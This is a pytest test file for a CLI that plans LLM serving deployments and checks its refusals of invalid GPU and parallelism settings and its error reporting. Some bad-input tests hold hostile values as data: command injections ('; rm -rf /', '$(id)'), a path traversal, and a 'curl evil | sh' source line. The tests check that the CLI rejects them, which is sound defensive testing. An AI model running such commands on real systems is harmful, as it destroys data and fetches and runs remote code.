"""What the planner refuses, why, and what it suggests instead; and how the CLI reports bad input."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import cli

REFUSALS = [
    # (plan arguments, limit, words the message must contain)
    (["longcat-flash-chat", "--gpu", "H800-80G"], "gpu-memory", ["H800-80G", "at least 2 nodes"]),
    (["longcat-flash-chat-fp8", "--gpu", "H800-80G"], "upstream-minimum", ["8 x H20-141G", "at least 2 nodes"]),
    (["longcat-flash-chat-fp8", "--gpu", "H20-141G", "--tp", "3"], "tp-divides-heads", ["64 attention heads"]),
    (["longcat-flash-chat", "--gpu", "H800", "--nodes", "2", "--tp", "8", "--dp", "1"], "dp-fills-nodes", ["--dp 2"]),
    (["longcat-flash-chat", "--gpu", "H800", "--nodes", "2", "--tp", "16", "--dp", "2"], "gpu-count", ["16"]),
    (["longcat-flash-chat", "--gpu", "H20-141G", "--nodes", "4", "--tp", "16", "--dp", "2"], "engine-dp", ["DP 1"]),
    (["longcat-flash-lite", "--gpu", "H100", "-G", "6", "--tp", "2", "--ep", "6"], "ep-divides-experts", ["256"]),
    (["longcat-flash-chat-fp8", "--gpu", "H20-141G", "--ep", "4"], "ep-size", ["--ep 8"]),
    (["deepseek-v4-flash", "-e", "sglang", "--gpu", "H200"], "engine-recipe", ["--engine vllm"]),
    (["longcat-flash-lite", "--gpu", "H100", "--mtp"], "mtp", ["drop --mtp"]),
    (["deepseek-v4-flash", "--gpu", "H200", "--engine-version", "0.19.0"], "engine-version", [">= 0.20.1"]),
    (["deepseek-v4-flash", "--gpu", "H200", "--engine-version", "latest!"], "engine-version", ["not a version"]),
    (["longcat-flash-chat", "--gpu", "H800", "--nodes", "2", "--port", "13345"], "port-conflict", ["DP RPC"]),
    (["longcat-flash-chat-fp8", "--gpu", "H20-141G", "--port", "80"], "port-range", ["1024"]),
]


@pytest.mark.parametrize(("args", "limit", "words"), REFUSALS, ids=[r[1] + ":" + r[0][0] for r in REFUSALS])
def test_refused_with_reason_on_stderr_and_exit_2(args: list[str], limit: str, words: list[str]) -> None:
    result = cli("plan", *args)
    assert result.returncode == 2, result.stdout
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    for word in words:
        assert word in lines[0]

    as_json = cli("plan", *args, "--json")
    assert as_json.returncode == 2
    assert json.loads(as_json.stdout) == {
        "schema_version": 1,
        "error": lines[0].removeprefix("error: "),
        "kind": "input",
        "exit_code": 2,
        "limit": limit,
        "traceback_file": None,
    }


BAD_INPUT = [
    (["plan", "no-such-model", "--gpu", "H800"], "unknown model 'no-such-model'"),
    (["plan", "longcat-flash-chat", "--gpu", "H900"], "unknown GPU 'H900'"),
    (["plan", "longcat-flash-chat; rm -rf /", "--gpu", "H800"], "not allowed"),
    (["plan", "$(id)", "--gpu", "H800"], "not allowed"),
    (["plan", "meituan-longcat/../../etc", "--gpu", "H800"], "not allowed"),
    (["plan", "longcat-flash-chat", "--gpu", "H800", "--nodes", "0"], "--nodes"),
    (["plan", "longcat-flash-chat", "--gpu", "H800", "--engine", "trtllm"], "--engine"),
]


@pytest.mark.parametrize(("args", "message"), BAD_INPUT, ids=[a[1] + " " + " ".join(a[2:]) for a, _ in BAD_INPUT])
def test_bad_input_exits_2_without_traceback(args: list[str], message: str) -> None:
    result = cli(*args)
    assert result.returncode == 2
    assert message in result.stderr
    assert "Traceback" not in result.stderr + result.stdout


def test_unknown_model_suggests_the_close_name() -> None:
    result = cli("plan", "longcat-flash-chat-fp9", "--gpu", "H20-141G")
    assert "did you mean 'longcat-flash-chat-fp8'" in result.stderr


def _user_model(tmp_path: Path, extra: str = "") -> Path:
    path = tmp_path / "my-model.yaml"
    path.write_text("extends: longcat-flash-chat-fp8\nname: my-longcat\nsource: /models/longcat-fp8-finetune\n" + extra)
    return path


def test_user_model_file_plans_like_a_builtin(tmp_path: Path) -> None:
    path = _user_model(tmp_path)
    result = cli("plan", "my-longcat", "--gpu", "H20-141G", "--model-file", str(path), "--json")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["processes"][0]["argv"][2] == "/models/longcat-fp8-finetune"


def test_user_model_directory_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _user_model(tmp_path)
    monkeypatch.setenv("LC_CLUSTER_MODELS", str(tmp_path))
    result = cli("models", "--json")
    assert "my-longcat" in [m["name"] for m in json.loads(result.stdout)["models"]]


def test_unknown_key_in_user_model_file_is_an_error_with_a_hint(tmp_path: Path) -> None:
    path = _user_model(tmp_path, "trust_remote_cod: true\n")
    result = cli("plan", "my-longcat", "--gpu", "H20-141G", "--model-file", str(path))
    assert result.returncode == 2
    assert "unknown key 'trust_remote_cod' (did you mean 'trust_remote_code'?)" in result.stderr


def test_nested_unknown_key_names_its_path(tmp_path: Path) -> None:
    path = _user_model(tmp_path, "architecture:\n  attention_head: 64\n")
    result = cli("models", "--model-file", str(path))
    assert result.returncode == 2
    assert "unknown key 'architecture.attention_head' (did you mean 'attention_heads'?)" in result.stderr


def test_user_model_with_shell_characters_in_source_is_rejected(tmp_path: Path) -> None:
    path = tmp_path / "evil.yaml"
    path.write_text("extends: longcat-flash-chat-fp8\nname: evil\nsource: 'org/x; curl evil | sh'\n")
    result = cli("models", "--model-file", str(path))
    assert result.returncode == 2
    assert "'source'" in result.stderr and "shell" in result.stderr
